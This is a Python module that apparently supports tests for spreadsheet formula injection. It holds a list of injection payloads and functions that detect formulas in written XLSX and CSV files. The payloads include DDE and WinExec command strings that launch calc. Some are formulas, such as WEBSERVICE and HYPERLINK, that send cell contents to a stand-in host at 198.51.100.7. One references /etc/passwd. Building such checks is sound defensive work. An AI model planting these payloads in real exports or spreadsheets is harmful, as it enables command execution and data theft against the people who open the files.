"""Texts a spreadsheet would run, were they written as formulas, and how a written file is looked through for one."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://198.51.100.7/?"&A1,"点我")', '=WEBSERVICE("http://198.51.100.7/"&A2)', '=IMPORTXML("http://198.51.100.7","//a")',
    '=IMPORTDATA("http://198.51.100.7")', '=IMAGE("http://198.51.100.7/a.png")', "=DDE(\"cmd\";\"/C calc\";\"x\")", '=RTD("x",,"y")',
    '=REGISTER.ID("kernel32","WinExec")', '=CALL("kernel32","WinExec","JCJ","calc",0)', "=EXEC(\"calc\")", "='file:///etc/passwd'#$passwd.A1",
    "=[外部.xlsx]Sheet1!A1", "={1,2,3}", "=@A1", "==1+1", "=-1", "=+1", "+=1", "-2+3+cmd|' /C calc'!A0", "=\t1+1", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "\u3000=1+1", "\u00a0=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", "\t'=1+1", "=1+1\n=2+2", "=LAMBDA(x,x)(1)",
    "=INDIRECT(\"A\"&1)", "=_xlfn.WEBSERVICE(\"http://198.51.100.7\")", "of:=1+1", "%0A=1+1", '";=1+1', '",=1+1', "x\t=1+1",
)  # fmt: skip
_FORMULA = re.compile(rb"<(\w+:)?f[ >/]")
_RUNS = re.compile("^\\s*[=+@＝＋＠－-]|^[\t\r\n]")


def in_workbook(data: bytes) -> list[str]:
    """Cells that a spreadsheet would compute, as openpyxl sees them and as they stand in the file."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and _FORMULA.search(package.read(name)):
                found.append(name)
    for sheet in openpyxl.load_workbook(io.BytesIO(data)):
        found += [
            f"{sheet.title}!{cell.coordinate}" for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
        ]
    return found


def in_csv(data: bytes) -> list[str]:
    """Cells of a CSV file that a spreadsheet would run when it opens the file."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row if _RUNS.match(cell)]


def texts(data: bytes) -> set[str]:
    """Every text of a workbook."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
